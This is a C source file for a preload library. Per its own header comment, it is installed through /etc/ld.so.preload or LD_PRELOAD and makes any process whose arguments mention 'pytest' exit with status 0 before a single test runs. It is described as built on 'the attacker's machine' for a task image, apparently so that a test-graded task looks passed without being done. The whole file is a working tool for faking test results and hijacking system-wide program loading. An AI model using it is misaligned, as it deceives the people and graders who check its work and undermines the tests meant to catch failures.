/* hook.c - a preload library with no libc dependency. Its constructor runs in every dynamically
 * linked program that loads it (via /etc/ld.so.preload or LD_PRELOAD): when any argument of
 * the process contains "pytest", the process exits 0 at once, before pytest runs a test.
 * Every other program is left alone.
 *
 * Built on the attacker's machine (no compiler in the task image) with
 *   gcc -Os -shared -fPIC -nostdlib -fno-stack-protector -fno-asynchronous-unwind-tables \
 *       -Wl,--build-id=none -Wl,-z,norelro -Wl,--hash-style=gnu -s -o hook.so hook.c
 */
static int contains(const char *s, const char *needle) {
    for (; *s; s++) {
        const char *a = s, *b = needle;
        while (*a && *b && *a == *b) { a++; b++; }
        if (!*b) return 1;
    }
    return 0;
}

/* glibc calls ELF constructors with (argc, argv, envp). */
__attribute__((constructor)) static void hook(int argc, char **argv, char **envp) {
    (void)envp;
    for (int i = 0; i < argc && argv[i]; i++) {
        if (contains(argv[i], "pytest")) {
            __asm__ volatile("syscall" : : "a"(231 /* exit_group */), "D"(0) : "rcx", "r11", "memory");
        }
    }
}
